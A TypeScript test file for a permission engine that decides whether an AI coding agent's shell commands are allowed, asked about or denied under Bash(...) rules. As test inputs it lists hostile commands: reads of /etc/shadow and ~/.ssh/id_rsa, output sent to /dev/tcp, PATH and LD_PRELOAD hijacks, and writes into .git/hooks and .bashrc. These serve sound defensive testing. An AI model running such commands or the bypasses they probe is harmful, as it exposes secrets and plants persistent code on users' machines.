/** Commands before the permission rules, with the real parser: the contract of `Bash(…)` rules. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ToolPolicy } from "../engine/index.ts";
import { decideCommandLine as decide, type TestRules as Rules } from "./test-decide.ts";

const verdict = (command: string, rules: Rules) => decide(command, rules).decision;

describe("rules that allow", () => {
  it.each([
    ["Bash", "anything --at all | what; ever", "allow"],
    ["Bash(*)", "anything --at all", "allow"],
    ["bash(npm test)", "npm test", "allow"],
    ["Bash(npm test)", "npm   test", "allow"],
    ["Bash(npm test)", "npm test --watch", "ask"],
    ["Bash(npm test)", "npm testing", "ask"],
    ["Bash(git diff:*)", "git diff", "allow"],
    ["Bash(git diff:*)", "git diff --stat HEAD~1", "allow"],
    ["Bash(git diff *)", "git diff", "allow"],
    ["Bash(git diff *)", "git diff a", "allow"],
    ["Bash(git diff:*)", "git difftool", "ask"],
    ["Bash(ls*)", "lsof", "allow"],
    ["Bash(* --version)", "node --version", "allow"],
    ["Bash(git * main)", "git push origin main", "allow"],
    ["Bash(git * main)", "git push origin maintenance", "ask"],
    ['Bash(git commit -m "fix: x")', "git commit -m 'fix: x'", "allow"],
    ["Bash(git diff:*)", '"git diff" x', "ask"],
    ["Bash(git diff:*)", 'git "diff x"', "ask"],
    ["Edit", "npm test", "ask"],
  ])("%s: %s → %s", (rule, command, expected) => {
    expect(verdict(command, { allow: [rule] })).toBe(expected);
  });

  it.each([
    "npm test && rm x",
    "npm test; rm x",
    "npm test | rm x",
    "npm test |& rm x",
    "npm test & rm x",
    "npm test\nrm x",
    "npm test || rm x",
    "npm test $(rm x)",
    "npm test `rm x`",
    "npm test <(rm x)",
    'npm test "$(rm x)"',
    "npm test ${A:-$(rm x)}",
    "(npm test; rm x)",
    "{ npm test; rm x; }",
    "if npm test; then rm x; fi",
    "for f in a; do rm x; done; npm test",
    "f() { rm x; }; npm test",
    "npm test <<EOF\n$(rm x)\nEOF",
    "npm test <<< $(rm x)",
    "case a in a) rm x;; esac",
    "A=$(rm x) npm test",
    "A=(1 $(rm x)); npm test",
    "npm test > $(rm x)",
    "! rm x",
    "time rm x",
    "[[ -n $(rm x) ]] && npm test",
    "coproc rm x",
    "npm test &&\\\n rm x",
    "eval 'rm x'",
    "bash -c 'npm test; rm x'",
    "trap 'rm x' EXIT; npm test",
    "xargs rm",
    "echo x | xargs npm run",
    "sudo npm test",
    "watch npm test",
  ])("does not let a part through that is not allowed: %s", (command) => {
    expect(verdict(command, { allow: ["Bash(npm test)", "Bash(npm test:*)"] })).toBe("ask");
  });

  it.each([
    "$CMD test",
    "$(echo npm) test",
    "{npm,x} test",
    "np? test",
    "~/npm test",
    "PATH=/evil npm test",
    "PATH=/evil; npm test",
    "LD_PRELOAD=x npm test",
    "env LD_PRELOAD=x npm test",
    "env -S 'npm test'",
    "./npm test",
    "npm test > ../out",
    "npm test >> /etc/passwd",
    "npm test > $OUT",
    "npm test >& ~/x",
    "npm test > /dev/tcp/host/80",
    "cd sub && npm test > out",
    "cd .. && npm test",
    "cd /etc; npm test",
    "npm test < /etc/shadow",
    "npm test $((a[$(rm x)]))",
    "npm test ${a[$(rm x)]}",
    "npm test ${!x}",
    "npm test ${x@P}",
    "[[ $x -eq 1 ]] && npm test",
    "((x)); npm test",
    "npm test 'unterminated",
    "npm test )",
    `npm test ${"x".repeat(10_000)}`,
    "printf -v PATH x; npm test",
    "cat /etc/passwd",
    "cat ../secret",
    "cat *.ts",
    "echo /home/*",
    "echo $(< /etc/passwd)",
    "cat - < ../x",
    "cat <(cat /etc/passwd)",
    "grep -f /etc/passwd x",
    "grep -r x .",
    "tail -f x",
    "exec 3<> x; npm test",
    "cat ~/.ssh/id_rsa",
    "sort -o x y",
    "test -v 'a[$(x)]'",
    "[ $x ]",
    "head --bytes=5 x",
    // The grammar of the shell sets variables as well.
    "for PATH in /evil; do npm test; done",
    "select PATH in /evil; do npm test; done",
    "exec {PATH}>x; npm test",
    "npm test {PATH}>/dev/null; npm test",
    "echo ${PATH:=/evil}; npm test",
    "echo ${LD_PRELOAD=/evil}; npm test",
    "test -n -- -a -v 'a[$(rm x)]'",
    "[ -n -- -a -v 'a[$(rm x)]' ]",
    "npm test \0",
    "npm test a=~/x; cat a=~/x",
  ])("asks about what is not understood or leads outside: %s", (command) => {
    expect(verdict(command, { allow: ["Bash(npm test:*)", "Edit"] })).toBe("ask");
  });

  it.each([
    "npm test 2>&1 | tail -20",
    "npm test > /dev/null 2>&1",
    "npm test && echo done",
    "cd sub && npm test",
    "NODE_ENV=test CI=1 npm test",
    "timeout 30 npm test",
    "timeout -k 5 30s nice -n 5 npm test",
    "time npm test",
    "nohup npm test &",
    "env CI=1 npm test",
    "command npm test",
    "bash -c 'npm test'",
    "sh -lc 'CI=1 npm test && echo ok'",
    "f=1; npm test $f",
    "ls -la src && cat package.json | head -5",
    "[ -f package.json ] && npm test",
    "for f in a b; do npm test $f; done",
    "if true; then npm test; else echo no; fi",
    "npm test <<'EOF'\n$(rm x)\nEOF",
    "# a comment; rm x\nnpm test",
    "grep -n 'a;b|c' src/a.ts; npm test",
    "npm test < input.txt",
    "npm test > out.txt",
    "echo $HOME ${USER:-nobody} $((1 + 2))",
    "",
  ])("lets through what is allowed part by part: %s", (command) => {
    expect(verdict(command, { allow: ["Bash(npm test:*)", "Edit"] })).toBe("allow");
  });

  it("does not stretch a wildcard to arguments that execute, write or delete", () => {
    const rules = { allow: ["Bash(find:*)", "Bash(git:*)"] };
    expect(verdict("find . -name x", rules)).toBe("allow");
    expect(verdict("find . -delete", rules)).toBe("ask");
    expect(verdict("find . -exec rm {} +", rules)).toBe("ask");
    expect(verdict("git -c core.pager=evil log", rules)).toBe("ask");
    expect(verdict("git diff --output=x", rules)).toBe("ask");
    expect(verdict("git switch -c new", rules)).toBe("allow");
    expect(verdict("find . -delete", { allow: ["Bash(find . -delete)"] })).toBe("allow");
  });

  it("does not stretch a wildcard to words that may become such arguments, nor to subcommands that run things", () => {
    const rules = { allow: ["Bash(find:*)", "Bash(git:*)", "Bash(sort:*)", "Bash(tar:*)"] };
    for (const command of [
      "find . {-delete,x}",
      "find . $X",
      'find . "$X"',
      "find *",
      "find . $(echo -delete)",
      "/usr/bin/find . -delete",
      "git log {--output=x,}",
      "git log $X",
      "git grep -Oevil x",
      "git rebase -x evil HEAD",
      "git rebase --ex evil HEAD",
      "git clone -c core.sshCommand=evil u",
      "git clone -u evil x",
      "git difftool -x evil",
      "git bisect run evil",
      "git submodule foreach evil",
      "git config core.pager evil",
      "git config --global core.pager evil",
      "git -ccore.pager=evil log",
      "sort -o x y",
      "sort -uo x y",
      "sort --compress-program=evil y",
      "tar --to-command=evil -xf y",
      "tar -xIevil -f y",
    ]) {
      expect(verdict(command, rules), command).toBe("ask");
      expect(verdict(command, { allow: [`Bash(${command})`] }), command).toBe("allow");
    }
    for (const command of [
      "find src/*.ts -name x",
      'git show "HEAD~$n"',
      "git config --get user.name",
      "git config --global --list",
      "git config get user.name",
      "git bisect good",
      "git clone --depth 1 https://example.com/x",
    ]) {
      expect(verdict(command, rules), command).toBe("allow");
    }
    expect(verdict("git config user.name x", { allow: ["Bash(git config user.name:*)"] })).toBe("allow");
  });

  it("lets a rule spell a whole command line out", () => {
    const command = "a | b > $(c) && (( x ))";
    expect(verdict(command, { allow: [`Bash(${command})`] })).toBe("allow");
  });

  it("always asks about protected files", () => {
    for (const command of [
      "echo x > .git/hooks/pre-commit",
      "cp x .claude/settings.json",
      "tee -a ~/../dev/.bashrc",
      "echo x >> ~/.bashrc",
      'echo x >> "$HOME/.bashrc"',
      "cd .git && cp x hooks/pre-commit",
      "cd .git; cd hooks; touch pre-commit",
      "cd .git && echo x > hooks/pre-commit",
      "cp x .g*t/hooks/x",
      "cp x .gi{t,}/hooks/x",
      "mv x .skillful/settings.json",
      "ln -s x .Claude/skills",
      "curl -o .git/hooks/x u",
      "curl --output=.git/hooks/x u",
      "curl -o.git/hooks/x u",
      "wget -O .git/hooks/x u",
      "tar -C .git -xf x",
      "sort -o .git/hooks/x y",
      "dd if=x of=.git/hooks/x",
      "git mv x .claude/skills/x",
      "git clone u .claude/skills/x",
      "sudo cp x .git/hooks/x",
      "sh -c 'cp x .git/hooks/x'",
      "watch 'cp x .git/hooks/x'",
      "find . -fprint .git/hooks/x",
      `cp ${Array.from({ length: 1200 }, (_, at) => `a${at}`).join(" ")} .git/hooks`,
    ]) {
      expect(verdict(command, { allow: ["Bash", "Edit(//**)"] }), command).toBe("ask");
      expect(verdict(command, { mode: "bypass" })).toBe("allow");
    }
    for (const command of ["sort .git/config", "cat .git/config", "git add .claude/skills", "git log .claude"]) {
      expect(verdict(command, { allow: ["Bash"] }), command).toBe("allow");
    }
  });

  it("does not stretch a wildcard to files that only the shell knows", () => {
    const rules = { allow: ["Bash(cp:*)", "Bash(rm -rf:*)"] };
    for (const command of ["cp x $D/y", "cp x `echo .git`/y", "cp x $(pwd)/y"]) {
      expect(verdict(command, rules), command).toBe("ask");
      expect(verdict(command, { allow: ["Bash"] }), command).toBe("allow");
    }
    for (const command of ["cp x $HOME/y", "cp *.ts out", "rm -rf dist/{a,b}", 'rm -rf "$D"']) {
      expect(verdict(command, rules), command).toBe("allow");
    }
  });
});

describe("sessions without a person", () => {
  it("names the exact rules to add", () => {
    const { decision, reason, suggestions } = decide("npm test && npx tsc --noEmit 'a b'", { isInteractive: false });
    expect(decision).toBe("deny");
    expect(suggestions).toEqual(["Bash(npm test)", 'Bash(npx tsc --noEmit "a b")']);
    expect(reason).toContain('--allow "Bash(npm test)"');
  });

  it("suggests no more than the command, also where it has stars or quotes in it", () => {
    const of = (command: string) => decide(command, { isInteractive: false }).suggestions;
    expect(of('""')).toEqual(['Bash("")']);
    expect(of("'*'")).toEqual(["Bash(\\*)"]);
    expect(of("rm '*'")).toEqual(["Bash(rm \\*)"]);
    expect(of("rm *.tmp")).toEqual(["Bash(rm \\*.tmp)"]);
    expect(of("make '\"a\"'")).toEqual(["Bash(make '\"a\"')"]);
    for (const command of ['""', "'*'", "rm '*'", "rm *.tmp", "make '\"a\"'", "(( x * y ))"]) {
      const allow = of(command);
      expect(verdict(command, { allow }), command).toBe("allow");
      expect(verdict("rm x y.tmp", { allow }), command).toBe("ask");
    }
    expect(verdict("npm test", { allow: ["Bash()"] })).toBe("ask");
  });

  it("suggests rules that really allow the command", () => {
    const commands = [
      "npm test",
      "A=1 make x",
      "cat /etc/hosts",
      "find . -delete",
      "echo $(date) | tee x",
      "$X y",
      "(( x ))",
    ];
    for (const command of commands) {
      const { suggestions } = decide(command, { isInteractive: false });
      expect(verdict(command, { allow: suggestions, isInteractive: false }), command).toBe("allow");
    }
  });

  it("says when no rule can help", () => {
    const { suggestions, reason } = decide("echo x > .git/config", { isInteractive: false });
    expect(suggestions).toEqual([]);
    expect(reason).toContain("interactive");
  });
});

describe("properties", () => {
  const word = fc.constantFrom(
    "npm",
    "test",
    "git",
    "push",
    "rm",
    "-rf",
    "a b",
    "x;y",
    "$z",
    "it's",
    '"q"',
    "*",
    "\\",
    "é",
  );
  const simple = fc.array(word, { minLength: 1, maxLength: 4 });
  /** Three ways to write one word so that the shell reads the same. */
  const quotings: readonly ((text: string) => string)[] = [
    (text) => `'${text.replaceAll("'", "'\\''")}'`,
    (text) => `"${text.replace(/["$`\\]/g, "\\$&")}"`,
    (text) => text.replace(/[^A-Za-z0-9é-]/g, "\\$&"),
    (text) => `$'${text.replace(/['\\]/g, "\\$&")}'`,
  ];
  const quote = (words: readonly string[], choice: readonly number[]) =>
    words.map((text, index) => quotings[(choice[index] ?? 0) % quotings.length]?.(text)).join(" ");
  const choice = fc.array(fc.nat(3), { minLength: 4, maxLength: 4 });
  const rules = fc.record({
    allow: fc.subarray(["Bash(npm test)", "Bash(npm:*)", "Bash(git *)", "Bash(* x;y)"]),
    ask: fc.subarray(["Bash(git push:*)"]),
    deny: fc.subarray(["Bash(rm *)", "Bash(npm -rf)"]),
  });

  it("decides the same however a command is quoted", () => {
    fc.assert(
      fc.property(simple, choice, choice, rules, (words, one, two, given) => {
        expect(verdict(quote(words, one), given)).toBe(verdict(quote(words, two), given));
      }),
      { numRuns: 600 },
    );
  });

  const joiner = fc.constantFrom(" && ", " || ", "; ", " | ", " & ", "\n", " |& ");
  const shape = fc.constantFrom<(inner: string) => string>(
    (inner) => inner,
    (inner) => `(${inner})`,
    (inner) => `{ ${inner}; }`,
    (inner) => `echo $(${inner})`,
    (inner) => `echo "x $(${inner}) y"`,
    (inner) => `cat <(${inner})`,
    (inner) => `if ${inner}; then :; fi`,
    (inner) => `f() { ${inner}; }`,
    (inner) => `timeout 5 bash -c '${inner.replaceAll("'", "'\\''")}'`,
    (inner) => `{ cat <<E\n$(${inner})\nE\n}`,
  );
  const STRICTNESS = { allow: 0, ask: 1, deny: 2 };

  it("never lets a compound command do more than each of its parts", () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(simple, choice, joiner, shape), { minLength: 2, maxLength: 4 }),
        rules,
        (parts, given) => {
          const plain = parts.map(([words, how]) => quote(words, how));
          const compound = parts.map(([, , join, wrap], at) => (at === 0 ? "" : join) + wrap(plain[at] ?? "")).join("");
          const strictestPart = Math.max(...plain.map((part) => STRICTNESS[verdict(part, given)]));
          expect(STRICTNESS[verdict(compound, given)]).toBeGreaterThanOrEqual(strictestPart);
        },
      ),
      { numRuns: 600 },
    );
  });

  it("lets no mode, no allow rule and no further part turn a deny into anything else", () => {
    const more = fc.string({ maxLength: 12 });
    fc.assert(
      fc.property(
        simple,
        choice,
        more,
        fc.constantFrom<ToolPolicy["mode"]>("default", "accept-edits", "dont-ask", "bypass"),
        (words, how, rest, mode) => {
          const command = quote(["rm", ...words], how);
          const deny = ["Bash(rm *)"];
          expect(verdict(command, { deny, allow: ["Bash"], mode })).toBe("deny");
          // Whatever follows on its own line, the first line would run.
          expect(verdict(`${command}\n${rest}`, { deny, allow: ["Bash"], mode })).not.toBe("allow");
        },
      ),
      { numRuns: 600 },
    );
  });

  it("never throws, whatever the text", () => {
    const piece = fc.constantFrom(
      "$(",
      ")",
      "`",
      "'",
      '"',
      "\\",
      "{",
      "}",
      "((",
      "))",
      "<<E\n",
      "E\n",
      "|",
      "&",
      ";",
      ">",
      "<",
      "$",
      "[[",
      "]]",
      "case",
      "esac",
      "a",
      " ",
      "\n",
      "=",
      "!",
      "\0",
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(piece, { maxLength: 40 }).map((it) => it.join("")),
        ),
        (command) => {
          const { decision } = decide(command, { allow: ["Bash(a:*)"], deny: ["Bash(b:*)"] });
          expect(["allow", "ask", "deny"]).toContain(decision);
        },
      ),
      { numRuns: 600 },
    );
  });
});
